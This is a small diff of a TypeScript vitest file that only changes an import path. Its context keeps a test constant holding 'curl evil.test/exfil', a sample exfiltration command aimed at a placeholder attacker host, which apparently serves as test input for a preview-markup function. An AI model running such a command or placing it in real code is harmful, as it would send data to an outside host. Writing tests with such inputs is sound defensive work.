@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest'
-import { sampled, table } from '@/lib/testing/table'
+import { sampled, table } from '@/test/table'
 import { type CallTexts, previewMarkup } from './testing/preview-markup'
 
 const TAIL = 'curl evil.test/exfil'
